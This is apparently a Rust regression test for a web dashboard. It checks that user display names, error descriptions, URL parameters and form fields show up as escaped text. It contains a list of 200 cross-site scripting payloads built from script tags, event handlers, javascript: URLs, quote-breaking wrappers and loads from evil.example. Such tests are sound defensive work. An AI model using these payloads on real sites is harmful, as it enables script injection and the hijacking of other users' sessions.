//! Whatever comes from elsewhere and is shown there stays text.

use std::{collections::BTreeSet, fmt::Write as _};

use refrain_sim::{Action, Fault, Profile, Target, User};

use super::Desk;

/// What would do harm, if it were more than text.
const CORES: [&str; 25] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xss style=animation-name:x onanimationend=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "onmouseover=alert(1) x=",
];

/// How it could get out of where it stands.
const WAYS_OUT: [(&str, &str); 8] = [
    ("", ""),
    ("\">", ""),
    ("'>", ""),
    ("\" ", " y=\""),
    ("' ", " y='"),
    ("</title></style></script>", ""),
    ("--></textarea></svg>", "<!--"),
    ("\u{0}\u{202e}]]>`;//\r\n", "${7*7}{{7*7}}"),
];

fn payloads() -> Vec<String> {
    let all = WAYS_OUT.iter().flat_map(|(out, end)| {
        let core = CORES.iter();
        core.map(move |core| format!("{out}{core}{end}"))
    });
    all.collect()
}

/// The elements and attributes of a page: read as a browser's parser begins to.
fn markup(page: &str) -> BTreeSet<String> {
    let mut seen = BTreeSet::new();
    let mut rest = page;
    while let Some((_, after)) = rest.split_once('<') {
        let name: String = after
            .chars()
            .take_while(|c| !c.is_whitespace() && *c != '>')
            .collect();
        seen.insert(format!("<{}", name.to_lowercase()));
        let (mut quote, mut end) = (None, after.len());
        let mut attributes = String::new();
        for (at, c) in after.char_indices().skip(name.chars().count()) {
            match (quote, c) {
                (None, '>') => {
                    end = at;
                    break;
                }
                (None, '"' | '\'') => quote = Some(c),
                (Some(open), c) if open == c => quote = None,
                (None, c) => write!(attributes, "{c}").unwrap(),
                (Some(_), _) => {}
            }
        }
        assert!(quote.is_none(), "a quote is left open: {after}");
        for attribute in attributes.split_whitespace() {
            let attribute = attribute.trim_end_matches(['=', '/']).to_lowercase();
            seen.insert(format!(" {attribute}"));
        }
        rest = after.get(end..).unwrap();
    }
    seen
}

#[test]
fn what_is_markup_is_found() {
    let found = markup("<p class=\"a>b\"><img src=x onerror='y'>&lt;b");
    let found: Vec<_> = found.iter().map(String::as_str).collect();
    assert_eq!(found, [" class", " onerror", " src=x", "<img", "<p"]);
}

/// Every page that shows something of others', for one grant.
async fn pages(desk: &Desk, name: &str, payload: &str) -> Vec<String> {
    let encoded: String = url::form_urlencoded::byte_serialize(payload.as_bytes()).collect();
    let mut pages = Vec::new();
    for path in [
        format!("/dashboard?name={name}"),
        format!("/dashboard/grants/{name}"),
        format!("/dashboard/grants/{name}/sign-out"),
        format!("/dashboard/connect?grant={name}"),
        format!("/dashboard?name={encoded}"),
        format!("/dashboard?after={encoded}&done={encoded}&error={encoded}&grant={encoded}"),
        format!("/dashboard?refrain={encoded}&{encoded}={encoded}"),
        format!("/dashboard/connect?grant={encoded}"),
        format!("/dashboard/grants/{encoded}"),
        format!("/dashboard/keys/{encoded}/revoke"),
    ] {
        pages.push(desk.text(&path).await);
    }
    pages
}

/// Every form, with the payload in each of its fields.
async fn forms(desk: &Desk, payload: &str) -> Vec<String> {
    let mut pages = Vec::new();
    let usual = [
        ("name", "a"),
        ("permission", "proxy"),
        ("all_grants", "yes"),
        ("days", "30"),
    ];
    for field in ["name", "permission", "grant", "days"] {
        let fields = usual
            .into_iter()
            .filter(|(it, _)| *it != field && (field != "grant" || *it != "all_grants"));
        let fields: Vec<_> = fields.chain([(field, payload)]).collect();
        let answer = desk.send("/dashboard/keys", &fields).await;
        pages.push(answer.text().await.unwrap());
    }
    for fields in [
        [("grant", payload), ("app", "default"), ("way", "here")],
        [("grant", "a"), ("app", payload), ("way", "link")],
    ] {
        let answer = desk.send("/dashboard/connect", &fields).await;
        pages.push(answer.text().await.unwrap());
    }
    pages
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_others_have_named_is_more_than_text() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 200);
    let users = payloads.iter().enumerate().map(|(number, payload)| {
        let mut user = User::new(format!("u{number}"));
        user.display_name.clone_from(payload);
        user
    });
    let users = [User::new("alice"), User::new("plain")]
        .into_iter()
        .chain(users);
    let users: Vec<User> = users.collect();
    let desk = Desk::with(Profile {
        users,
        ..Profile::default()
    })
    .await;
    let (world, mut plain) = (&desk.world, BTreeSet::new());
    for (number, payload) in ["plain words"]
        .into_iter()
        .chain(payloads.iter().map(String::as_str))
        .enumerate()
    {
        let name = number
            .checked_sub(1)
            .map_or("plain".to_owned(), |it| format!("u{it}"));
        world.sim.sign_in_as(&name);
        world.sign_in(&name).await;
        let description = Some(payload.to_owned());
        world.sim.script(Fault::once(
            Target::TokenRefresh,
            Action::FalseRefusal { description },
        ));
        let grant = world.refrain.grant(&name).await.unwrap();
        grant.refresh().await.unwrap_err();
        let mut pages = pages(&desk, &name, payload).await;
        pages.extend(forms(&desk, payload).await);
        for page in pages {
            let found = markup(&page);
            if name == "plain" {
                plain.extend(found);
                continue;
            }
            let more: Vec<_> = found.difference(&plain).collect();
            assert!(more.is_empty(), "{payload}: {more:?}\n{page}");
        }
        let own = format!("/dashboard/grants/{name}");
        let shown = desk.text(&own).await;
        if name != "plain" {
            assert!(
                shown.contains("alert(1)") || shown.contains("evil.example"),
                "it is shown"
            );
        }
    }
    assert!(plain.contains("<main") && !plain.contains(" onerror"));
}
